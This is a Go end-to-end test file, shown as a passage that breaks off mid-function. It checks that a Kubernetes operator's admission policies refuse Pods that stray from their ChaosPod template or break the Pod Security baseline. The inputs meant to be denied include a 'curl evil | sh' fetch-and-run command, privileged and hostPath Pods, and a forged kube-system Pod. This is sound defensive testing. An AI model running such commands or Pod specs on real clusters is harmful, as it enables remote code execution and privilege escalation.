package e2e_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	chaosv1 "github.com/hexagonal-operator/operator/api/chaos/v1"
	"github.com/hexagonal-operator/operator/internal/domain/chaospod"
	"github.com/hexagonal-operator/operator/test/controlplane"
)

// victimTemplate is a ChaosPod template that uses the fields the template
// policy compares, several of them in the short forms the API server
// fills in on a Pod (a port's protocol, volume modes, fieldRef versions,
// a projected token's lifetime), and the values the Pod Security Standard
// baseline allows at its edges (an allowed capability, an SELinux
// container type, a safe sysctl).
func victimTemplate() corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{
		ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "victim"}},
		Spec: corev1.PodSpec{
			ServiceAccountName: "runner",
			SecurityContext: &corev1.PodSecurityContext{
				RunAsNonRoot:   ptr.To(true),
				SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
				Sysctls:        []corev1.Sysctl{{Name: "kernel.shm_rmid_forced", Value: "0"}},
			},
			InitContainers: []corev1.Container{{
				Name: "init", Image: "busybox:1.36", Command: []string{"true"},
				Env: []corev1.EnvVar{{Name: "A", Value: "a"}},
			}},
			Containers: []corev1.Container{{
				Name: "main", Image: "registry.k8s.io/pause:3.10", Command: []string{"/pause"}, Args: []string{"-v"}, WorkingDir: "/",
				Env: []corev1.EnvVar{
					{Name: "V", Value: "v"},
					{Name: "POD", ValueFrom: &corev1.EnvVarSource{FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.name"}}},
					{Name: "CM", ValueFrom: &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}, Key: "k"}}},
				},
				EnvFrom: []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}}}},
				Ports:   []corev1.ContainerPort{{Name: "http", ContainerPort: 8080}},
				VolumeMounts: []corev1.VolumeMount{
					{Name: "data", MountPath: "/data"}, {Name: "conf", MountPath: "/conf"},
					{Name: "token", MountPath: "/token"}, {Name: "secret", MountPath: "/secret"},
				},
				SecurityContext: &corev1.SecurityContext{
					RunAsUser:      ptr.To[int64](1000),
					Capabilities:   &corev1.Capabilities{Add: []corev1.Capability{"CHOWN"}, Drop: []corev1.Capability{"ALL"}},
					SELinuxOptions: &corev1.SELinuxOptions{Type: "container_t"},
				},
				LivenessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}}},
				Lifecycle:     &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}}},
			}},
			Volumes: []corev1.Volume{
				{Name: "data", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
				{Name: "conf", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}}}},
				{Name: "token", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
					{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}},
					{DownwardAPI: &corev1.DownwardAPIProjection{Items: []corev1.DownwardAPIVolumeFile{{Path: "name", FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.name"}}}}},
				}}}},
				{Name: "secret", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "s"}}},
			},
		},
	}
}

// confined is a control plane with config/default's CRD and policies, as
// the operator's ServiceAccount would meet them.
type confined struct {
	cp       *controlplane.ControlPlane
	admin    kubernetes.Interface
	dyn      dynamic.Interface
	operator kubernetes.Interface
	opDyn    dynamic.Interface
}

// installConfined installs config/default's CRD, then its RBAC and
// admission policies, as `kubectl apply -k config/default` orders them, and
// returns the clients of the admin and of the operator's ServiceAccount.
func installConfined(t *testing.T, cp *controlplane.ControlPlane) confined {
	t.Helper()
	ctx := context.Background()
	_, err := cp.InstallCRDs(ctx, repoPath(t, "config", "crd"), nil)
	require.NoError(t, err)
	require.NoError(t, cp.Apply(ctx, rbacOf(t)...))
	saCfg, err := cp.ServiceAccountConfig(ctx, operatorNamespace, operatorServiceAccount)
	require.NoError(t, err)
	c := confined{cp: cp, admin: cp.Clientset()}
	c.dyn, err = dynamic.NewForConfig(cp.Config)
	require.NoError(t, err)
	c.operator, err = kubernetes.NewForConfig(saCfg)
	require.NoError(t, err)
	c.opDyn, err = dynamic.NewForConfig(saCfg)
	require.NoError(t, err)
	return c
}

// createChaosPod creates a ChaosPod of template in ns as the admin and
// returns it as the operator reads it.
func (c confined) createChaosPod(t *testing.T, ns, name string, template corev1.PodTemplateSpec, finalizers ...string) *chaosv1.ChaosPod {
	t.Helper()
	cp := &chaosv1.ChaosPod{
		TypeMeta:   metav1.TypeMeta{APIVersion: chaosv1.SchemeGroupVersion.String(), Kind: chaosv1.Kind},
		ObjectMeta: metav1.ObjectMeta{Name: name, Finalizers: finalizers},
		Spec:       chaosv1.ChaosPodSpec{Template: template},
	}
	obj, err := runtime.DefaultUnstructuredConverter.ToUnstructured(cp)
	require.NoError(t, err)
	created, err := c.dyn.Resource(chaosv1.GroupVersionResource).Namespace(ns).Create(context.Background(), &unstructured.Unstructured{Object: obj}, metav1.CreateOptions{})
	require.NoError(t, err)
	out := new(chaosv1.ChaosPod)
	require.NoError(t, runtime.DefaultUnstructuredConverter.FromUnstructured(created.Object, out))
	return out
}

// createPod creates pod as the operator (dry run unless persist).
func (c confined) createPod(pod *corev1.Pod, persist bool) error {
	opts := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	if persist {
		opts = metav1.CreateOptions{}
	}
	_, err := c.operator.CoreV1().Pods(pod.Namespace).Create(context.Background(), pod, opts)
	return err
}

// requireDenied fails unless err is a denial by policy whose message
// holds message.
func requireDenied(t *testing.T, err error, policy, message string) {
	t.Helper()
	require.Error(t, err, "refused by %s", policy)
	assert.True(t, apierrors.IsInvalid(err) || apierrors.IsForbidden(err), "%v", err)
	assert.Contains(t, err.Error(), "ValidatingAdmissionPolicy '"+policy+"'", "the denial names the policy")
	assert.Contains(t, err.Error(), message)
}

// The Pods the operator creates are exactly what an existing ChaosPod's
// template yields: with the ServiceAccount admission plugin on (it adds a
// token volume to the operator's Pods), each field the policies check is
// changed once, and each change is refused naming the policy and the
// check. Before that, the fail-closed window after install is measured:
// the operator's Pods are refused until the API server knows ChaosPods,
// while nobody else's Pod is refused meanwhile.
func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
	t.Parallel()
	cp := controlplane.StartT(t, controlplane.Options{APIServerFlags: []string{"--disable-admission-plugins="}})
	ctx := context.Background()
	admin := cp.Clientset()
	const ns = "apps"
	require.NoError(t, cp.EnsureNamespace(ctx, ns))
	for _, sa := range []string{"default", "runner", "powerful"} {
		_, err := admin.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa}}, metav1.CreateOptions{})
		require.NoError(t, err)
	}
	_, err := admin.CoreV1().ServiceAccounts(metav1.NamespaceSystem).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "powerful"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = admin.NodeV1().RuntimeClasses().Create(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "sandbox"}, Handler: "runsc"}, metav1.CreateOptions{})
	require.NoError(t, err)

	start := time.Now()
	c := installConfined(t, cp)
	victim := c.createChaosPod(t, ns, "victim", victimTemplate())

	userPod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "users", Labels: map[string]string{"app": "victim"}},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox"}}},
	}
	evil := chaospod.PodFor(victim)
	evil.Spec.Containers[0].Image = "evil:latest"
	ghost := chaospod.PodFor(victim)
	ghost.Namespace = metav1.NamespaceSystem
	// The API server loads new policies within moments; from then on the
	// template policy refuses a labeled Pod whatever it knows of ChaosPods.
	require.Eventually(t, func() bool {
		return c.createPod(evil, false) != nil && c.createPod(ghost, false) != nil
	}, 30*time.Second, 50*time.Millisecond, "the policies are loaded")
	loaded := time.Since(start)
	var refusedMeanwhile []string
	var checks int
	require.Eventually(t, func() bool {
		checks++
		_, err := admin.CoreV1().Pods(ns).Create(ctx, userPod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if !assert.NoError(t, err, "a Pod of someone else is never refused") {
			return true
		}
		if !assert.Error(t, c.createPod(evil, false), "the operator's Pod unlike its template is never admitted") {
			return true
		}
		err = c.createPod(chaospod.PodFor(victim), false)
		if err != nil {
			refusedMeanwhile = append(refusedMeanwhile, err.Error())
		}
		return err == nil
	}, 90*time.Second, 100*time.Millisecond, "the operator's Pods pass once the API server knows ChaosPods")
	t.Logf("figure: fail-closed window after install: policies enforcing %s, the operator's Pods pass %s after the CRD and policies were applied (%d checks of a user's Pod, all admitted; %d refusals of the operator's, first: %q)",
		loaded.Round(10*time.Millisecond), time.Since(start).Round(100*time.Millisecond), checks, len(refusedMeanwhile), first(refusedMeanwhile))
	for _, r := range refusedMeanwhile {
		assert.Contains(t, r, "ValidatingAdmissionPolicy '"+templatePolicy+"'", "only the template policy refuses while it cannot read ChaosPods")
	}

	// The Pod the operator builds passes, as a real create too (with the
	// ServiceAccount plugin's token volume in it).
	built := chaospod.PodFor(victim)
	require.NoError(t, c.createPod(built, true))
	created, err := admin.CoreV1().Pods(ns).Get(ctx, "victim", metav1.GetOptions{})
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(created.Spec.Volumes[len(created.Spec.Volumes)-1].Name, "kube-api-access-"), "the ServiceAccount plugin added its token volume")
	require.NoError(t, admin.CoreV1().Pods(ns).Delete(ctx, "victim", metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)}))

	noToken := victimTemplate()
	noToken.Spec.AutomountServiceAccountToken = ptr.To(false)
	noTokenCP := c.createChaosPod(t, ns, "no-token", noToken)
	c.waitSeen(t, noTokenCP)
	require.NoError(t, c.createPod(chaospod.PodFor(noTokenCP), false), "a template without the token")
	doomed := c.createChaosPod(t, ns, "doomed", victimTemplate(), "e2e.example/hold")
	c.waitSeen(t, doomed)
	require.NoError(t, c.dyn.Resource(chaosv1.GroupVersionResource).Namespace(ns).Delete(ctx, "doomed", metav1.DeleteOptions{}))
	t.Cleanup(func() {
		_, _ = c.dyn.Resource(chaosv1.GroupVersionResource).Namespace(ns).Patch(context.Background(), "doomed", types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`), metav1.PatchOptions{})
	})
	// The params are read from an informer, which learns of the deletion
	// a moment later.
	require.Eventually(t, func() bool { return c.createPod(chaospod.PodFor(doomed), false) != nil }, 30*time.Second, 50*time.Millisecond)

	main := func(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
	stray := func(p *corev1.Pod) {
		p.Name, p.Labels[chaospod.PodLabel], p.OwnerReferences[0].Name = "stray", "stray", "stray"
	}
	sc := func(p *corev1.Pod) *corev1.SecurityContext { return main(p).SecurityContext }
	tokenVolume := corev1.Volume{Name: "kube-api-access-abcde", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
		DefaultMode: ptr.To[int32](420),
		Sources: []corev1.VolumeProjection{
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{ExpirationSeconds: ptr.To[int64](3607), Path: "token"}},
			{ConfigMap: &corev1.ConfigMapProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "kube-root-ca.crt"}, Items: []corev1.KeyToPath{{Key: "ca.crt", Path: "ca.crt"}}}},
			{DownwardAPI: &corev1.DownwardAPIProjection{Items: []corev1.DownwardAPIVolumeFile{{Path: "namespace", FieldRef: &corev1.ObjectFieldSelector{APIVersion: "v1", FieldPath: "metadata.namespace"}}}}},
		},
	}}}

	const (
		owned       = "owned by exactly one object"
		labeled     = "labeled chaosapps.metamagical.io/chaospod"
		hostProcess = "HostProcess"
		hostNS      = "network, PID or IPC namespace"
		privileged  = "a privileged Pod"
		caps        = "adds capabilities"
		hostPath    = "hostPath volume"
		hostPort    = "host port"
		appArmor    = "AppArmor profile"
		// appArmorAnnotation marks the one case either policy refuses.
		appArmorAnnotation = "AppArmor annotation"
		seLinux            = "SELinux"
		seccomp            = "seccomp profile"
		sysctls            = "sysctl outside the safe set"
		probeHost          = "probes or lifecycle hooks name a host"

		exists   = "a ChaosPod that exists with the UID"
		noParams = "no params found for policy binding with `Deny` parameterNotFoundAction"
	)
	// differs is chaospod-templates' message naming the field that differs.
	differs := func(field string) string { return "the operator may only create a Pod whose " + field }
	tests := []struct {
		name    string
		of      *chaosv1.ChaosPod // victim unless set
		mutate  func(p *corev1.Pod)
		policy  string
		message string
	}{
		// chaospod-pods: ownership and the label, on a Pod named like no
		// ChaosPod (stray), which chaospod-templates lets pass: for the
		// Pod of an existing ChaosPod it refuses these too, and either
		// policy may answer first.
		{"no owner", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences = nil }, chaosPodPolicy, owned},
		{"a second owner", nil, func(p *corev1.Pod) {
			stray(p)
			p.OwnerReferences = append(p.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ConfigMap", Name: "cm", UID: "u"})
		}, chaosPodPolicy, owned},
		{"owner not the controller", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Controller = nil }, chaosPodPolicy, owned},
		{"owner of another group", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].APIVersion = "apps/v1" }, chaosPodPolicy, owned},
		{"owner of another kind", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Kind = "ReplicaSet" }, chaosPodPolicy, owned},
		{"owner of another name", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Name = "other" }, chaosPodPolicy, owned},
		{"no ChaosPod label", nil, func(p *corev1.Pod) { delete(p.Labels, chaospod.PodLabel) }, chaosPodPolicy, labeled},
		{"ChaosPod label of another name", nil, func(p *corev1.Pod) { stray(p); p.Labels[chaospod.PodLabel] = "no-token" }, chaosPodPolicy, labeled},
		// chaospod-pods: the Pod Security Standard baseline.
		// (The API server requires hostNetwork, and every container
		// HostProcess, of a HostProcess Pod.)
		{"pod hostProcess", nil, func(p *corev1.Pod) {
			p.Spec.HostNetwork = true
			p.Spec.SecurityContext.WindowsOptions = &corev1.WindowsSecurityContextOptions{HostProcess: ptr.To(true)}
		}, chaosPodPolicy, hostProcess},
		{"container hostProcess", nil, func(p *corev1.Pod) {
			p.Spec.HostNetwork = true
			for _, c := range []*corev1.Container{main(p), &p.Spec.InitContainers[0]} {
				if c.SecurityContext == nil {
					c.SecurityContext = &corev1.SecurityContext{}
				}
				c.SecurityContext.WindowsOptions = &corev1.WindowsSecurityContextOptions{HostProcess: ptr.To(true)}
			}
		}, chaosPodPolicy, hostProcess},
		{"hostNetwork", nil, func(p *corev1.Pod) { p.Spec.HostNetwork = true }, chaosPodPolicy, hostNS},
		{"hostPID", nil, func(p *corev1.Pod) { p.Spec.HostPID = true }, chaosPodPolicy, hostNS},
		{"hostIPC", nil, func(p *corev1.Pod) { p.Spec.HostIPC, p.Spec.SecurityContext.Sysctls = true, nil }, chaosPodPolicy, hostNS},
		{"privileged container", nil, func(p *corev1.Pod) { sc(p).Privileged = ptr.To(true) }, chaosPodPolicy, privileged},
		{"privileged init container", nil, func(p *corev1.Pod) {
			p.Spec.InitContainers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
		}, chaosPodPolicy, privileged},
		{"capability beyond the default set", nil, func(p *corev1.Pod) { sc(p).Capabilities.Add = append(sc(p).Capabilities.Add, "NET_ADMIN") }, chaosPodPolicy, caps},
		{"init container capability", nil, func(p *corev1.Pod) {
			p.Spec.InitContainers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}}
		}, chaosPodPolicy, caps},
		{"hostPath volume", nil, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}, chaosPodPolicy, hostPath},
		{"hostPort", nil, func(p *corev1.Pod) { main(p).Ports[0].HostPort = 80 }, chaosPodPolicy, hostPort},
		{"init container hostPort", nil, func(p *corev1.Pod) {
			p.Spec.InitContainers[0].Ports = []corev1.ContainerPort{{ContainerPort: 53, HostPort: 53}}
		}, chaosPodPolicy, hostPort},
		{"pod AppArmor Unconfined", nil, func(p *corev1.Pod) {
			p.Spec.SecurityContext.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}, chaosPodPolicy, appArmor},
		{"container AppArmor Unconfined", nil, func(p *corev1.Pod) {
			sc(p).AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}, chaosPodPolicy, appArmor},
		{"AppArmor annotation unconfined", nil, func(p *corev1.Pod) {
			p.Annotations = map[string]string{"container.apparmor.security.beta.kubernetes.io/main": "unconfined"}
		}, chaosPodPolicy, appArmorAnnotation},
		{"pod SELinux type", nil, func(p *corev1.Pod) { p.Spec.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"} }, chaosPodPolicy, seLinux},
		{"container SELinux type", nil, func(p *corev1.Pod) { sc(p).SELinuxOptions.Type = "spc_t" }, chaosPodPolicy, seLinux},
		{"SELinux user", nil, func(p *corev1.Pod) { sc(p).SELinuxOptions.User = "system_u" }, chaosPodPolicy, seLinux},
		{"SELinux role", nil, func(p *corev1.Pod) { sc(p).SELinuxOptions.Role = "system_r" }, chaosPodPolicy, seLinux},
		// (An unmasked /proc the API server refuses outside a user
		// namespace, where the baseline allows it.)
		{"unmasked /proc", nil, func(p *corev1.Pod) { sc(p).ProcMount = ptr.To(corev1.UnmaskedProcMount) }, "", "`hostUsers` must be false to use `Unmasked`"},
		{"pod seccomp Unconfined", nil, func(p *corev1.Pod) {
			p.Spec.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}, chaosPodPolicy, seccomp},
		{"container seccomp Unconfined", nil, func(p *corev1.Pod) {
			sc(p).SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}, chaosPodPolicy, seccomp},
		{"unsafe sysctl", nil, func(p *corev1.Pod) {
			p.Spec.SecurityContext.Sysctls = append(p.Spec.SecurityContext.Sysctls, corev1.Sysctl{Name: "net.core.somaxconn", Value: "1024"})
		}, chaosPodPolicy, sysctls},
		{"liveness probe host", nil, func(p *corev1.Pod) {
			main(p).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: "10.0.0.1", Port: intstr.FromInt32(80)}}}
		}, chaosPodPolicy, probeHost},
		{"readiness probe tcpSocket host", nil, func(p *corev1.Pod) {
			main(p).ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Host: "10.0.0.1", Port: intstr.FromInt32(80)}}}
		}, chaosPodPolicy, probeHost},
		{"startup probe host", nil, func(p *corev1.Pod) {
			main(p).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: "10.0.0.1", Port: intstr.FromInt32(80)}}}
		}, chaosPodPolicy, probeHost},
		{"postStart host", nil, func(p *corev1.Pod) {
			main(p).Lifecycle.PostStart = &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Host: "10.0.0.1", Port: intstr.FromInt32(80)}}
		}, chaosPodPolicy, probeHost},
		{"preStop host", nil, func(p *corev1.Pod) {
			main(p).Lifecycle.PreStop = &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Host: "10.0.0.1", Port: intstr.FromInt32(80)}}
		}, chaosPodPolicy, probeHost},
		// chaospod-templates: the ChaosPod.
		{"another UID", nil, func(p *corev1.Pod) { p.OwnerReferences[0].UID = "not-the-chaospods" }, templatePolicy, exists},
		{"a ChaosPod being deleted", doomed, func(*corev1.Pod) {}, templatePolicy, exists},
		// chaospod-templates: the containers.
		{"image", nil, func(p *corev1.Pod) { main(p).Image = "evil:latest" }, templatePolicy, differs("spec.containers[main].image")},
		{"command", nil, func(p *corev1.Pod) { main(p).Command = []string{"sh", "-c", "curl evil | sh"} }, templatePolicy, differs("spec.containers[main].command")},
		{"args", nil, func(p *corev1.Pod) { main(p).Args = []string{"-x"} }, templatePolicy, differs("spec.containers[main].args")},
		{"workingDir", nil, func(p *corev1.Pod) { main(p).WorkingDir = "/tmp" }, templatePolicy, differs("spec.containers[main].workingDir")},
		{"env value", nil, func(p *corev1.Pod) { main(p).Env[0].Value = "w" }, templatePolicy, differs("spec.containers[main].env")},
		{"env fieldRef", nil, func(p *corev1.Pod) { main(p).Env[1].ValueFrom.FieldRef.FieldPath = "spec.serviceAccountName" }, templatePolicy, differs("spec.containers[main].env")},
		{"env configMapKeyRef", nil, func(p *corev1.Pod) { main(p).Env[2].ValueFrom.ConfigMapKeyRef.Name = "other" }, templatePolicy, differs("spec.containers[main].env")},
		{"env secretKeyRef", nil, func(p *corev1.Pod) {
			main(p).Env = append(main(p).Env, corev1.EnvVar{Name: "S", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "admin-token"}, Key: "token"}}})
		}, templatePolicy, differs("spec.containers[main].env")},
		{"env resourceFieldRef", nil, func(p *corev1.Pod) {
			main(p).Env[1].ValueFrom = &corev1.EnvVarSource{ResourceFieldRef: &corev1.ResourceFieldSelector{Resource: "limits.memory"}}
		}, templatePolicy, differs("spec.containers[main].env")},
		{"envFrom", nil, func(p *corev1.Pod) {
			main(p).EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}}}}
		}, templatePolicy, differs("spec.containers[main].envFrom")},
		{"envFrom prefix", nil, func(p *corev1.Pod) { main(p).EnvFrom[0].Prefix = "X_" }, templatePolicy, differs("spec.containers[main].envFrom")},
		{"volumeMount", nil, func(p *corev1.Pod) { main(p).VolumeMounts[0].MountPath = "/etc" }, templatePolicy, differs("spec.containers[main].volumeMounts")},
		{"port protocol", nil, func(p *corev1.Pod) { main(p).Ports[0].Protocol = corev1.ProtocolUDP }, templatePolicy, differs("spec.containers[main].ports")},
		{"port number", nil, func(p *corev1.Pod) { main(p).Ports[0].ContainerPort = 9090 }, templatePolicy, differs("spec.containers[main].ports")},
		{"container securityContext", nil, func(p *corev1.Pod) { sc(p).RunAsUser = ptr.To[int64](0) }, templatePolicy, differs("spec.containers[main].securityContext")},
		{"exec probe", nil, func(p *corev1.Pod) { main(p).LivenessProbe.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, differs("spec.containers[main].livenessProbe")},
		{"postStart exec", nil, func(p *corev1.Pod) { main(p).Lifecycle.PostStart.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, differs("spec.containers[main].lifecycle.postStart")},
		{"a container more", nil, func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "side", Image: "evil:latest"})
		}, templatePolicy, differs("spec.containers[*].name is")},
		{"init container image", nil, func(p *corev1.Pod) { p.Spec.InitContainers[0].Image = "evil:latest" }, templatePolicy, differs("spec.initContainers[init].image")},
		{"init container as a sidecar", nil, func(p *corev1.Pod) {
			p.Spec.InitContainers[0].RestartPolicy = ptr.To(corev1.ContainerRestartPolicyAlways)
		}, templatePolicy, differs("spec.initContainers[init].restartPolicy")},
		// chaospod-templates: volumes, identity and the pod level.
		{"configMap volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[1].ConfigMap.Name = "other" }, templatePolicy, differs("spec.volumes[conf].configMap.name")},
		{"secret volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.SecretName = "admin-token" }, templatePolicy, differs("spec.volumes[secret].secret.secretName")},
		{"volume mode", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.DefaultMode = ptr.To[int32](0o777) }, templatePolicy, differs("spec.volumes[secret].secret.defaultMode")},
		{"token audience", nil, func(p *corev1.Pod) {
			p.Spec.Volumes[2].Projected.Sources[0].ServiceAccountToken.Audience = "vault"
		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
		{"token lifetime", nil, func(p *corev1.Pod) {
			p.Spec.Volumes[2].Projected.Sources[0].ServiceAccountToken.ExpirationSeconds = ptr.To[int64](86400)
		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
		{"projected downwardAPI", nil, func(p *corev1.Pod) {
			p.Spec.Volumes[2].Projected.Sources[1].DownwardAPI.Items[0].FieldRef.FieldPath = "metadata.uid"
		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
		{"emptyDir made a secret", nil, func(p *corev1.Pod) {
			p.Spec.Volumes[0].VolumeSource = corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin-token"}}
		}, templatePolicy, differs("spec.volumes[data].source")},
		{"emptyDir medium", nil, func(p *corev1.Pod) { p.Spec.Volumes[0].EmptyDir.Medium = corev1.StorageMediumMemory }, templatePolicy, differs("spec.volumes[data].emptyDir.medium")},
		{"a token volume the template turns off", noTokenCP, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, tokenVolume)
		}, templatePolicy, differs("spec.volumes[*].name is")},
		{"a token volume unlike the plugin's", nil, func(p *corev1.Pod) {
			v := *tokenVolume.DeepCopy()
			v.Projected.Sources[0].ServiceAccountToken.Audience = "vault"
			p.Spec.Volumes = append(p.Spec.Volumes, v)
		}, templatePolicy, differs("spec.initContainers[init].volumeMounts")}, // the ServiceAccount plugin mounts it, as its own, into every container
		{"serviceAccountName", nil, func(p *corev1.Pod) { p.Spec.ServiceAccountName = "powerful" }, templatePolicy, differs("spec.serviceAccountName")},
		{"automountServiceAccountToken", nil, func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = ptr.To(false) }, templatePolicy, differs("spec.automountServiceAccountToken")},
		{"pod securityContext", nil, func(p *corev1.Pod) { p.Spec.SecurityContext.RunAsUser = ptr.To[int64](0) }, templatePolicy, differs("spec.securityContext")},
		{"shareProcessNamespace", nil, func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = ptr.To(true) }, templatePolicy, differs("spec.shareProcessNamespace")},
		{"nodeName", nil, func(p *corev1.Pod) { p.Spec.NodeName = "control-plane" }, templatePolicy, differs("spec.nodeName")},
		{"runtimeClassName", nil, func(p *corev1.Pod) { p.Spec.RuntimeClassName = ptr.To("sandbox") }, templatePolicy, differs("spec.runtimeClassName")},
		{"hostUsers", nil, func(p *corev1.Pod) { p.Spec.HostUsers = ptr.To(false) }, templatePolicy, differs("spec.hostUsers")},
		// The attacks: a Pod anywhere, as anyone.
		{"kube-system Pod of a ChaosPod that does not exist, as a powerful ServiceAccount", nil, func(p *corev1.Pod) {
			p.Namespace = metav1.NamespaceSystem
			p.Name, p.Labels[chaospod.PodLabel], p.OwnerReferences[0].Name = "ghost", "ghost", "ghost"
			p.OwnerReferences[0].UID = "any"
			p.Spec = corev1.PodSpec{ServiceAccountName: "powerful", Containers: []corev1.Container{{Name: "c", Image: "evil:latest"}}}
		}, templatePolicy, noParams},
	}
	// The baseline's checks are met by a template that breaks them: the
	// Pod is then its template, which chaospod-templates lets pass, and
	// chaospod-pods alone refuses it, whatever the template says.
	baseline := map[string]bool{hostProcess: true, hostNS: true, privileged: true, caps: true, hostPath: true,
		hostPort: true, appArmor: true, seLinux: true, seccomp: true, sysctls: true, probeHost: true}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			of := victim
			if tt.of != nil {
				of = tt.of
			}
			mutate := tt.mutate
			if baseline[tt.message] {
				template := victimTemplate()
				if tt.message != hostPort {
					// hostNetwork fills in each port's hostPort.
					template.Spec.Containers[0].Ports = nil
				}
				asPod := &corev1.Pod{ObjectMeta: template.ObjectMeta, Spec: template.Spec}
				tt.mutate(asPod)
				template.Annotations, template.Spec = asPod.Annotations, asPod.Spec
				of = c.createChaosPod(t, ns, fmt.Sprintf("baseline-%d", i), template)
				mutate = func(*corev1.Pod) {}
			}
			pod := chaospod.PodFor(of)
			mutate(pod)
			err := c.createPod(pod, false)
			if tt.message == appArmorAnnotation {
				// The API server copies the annotation into the container's
				// appArmorProfile, which the template lacks: both policies
				// refuse, and either may answer first.
				require.Error(t, err)
				assert.Contains(t, err.Error(), "ValidatingAdmissionPolicy 'hexagonal-operator-chaospod-")
				return
			}
			if tt.policy == "" { // refused by the API server's own validation
				require.True(t, apierrors.IsInvalid(err), "%v", err)
				assert.Contains(t, err.Error(), tt.message)
				return
			}
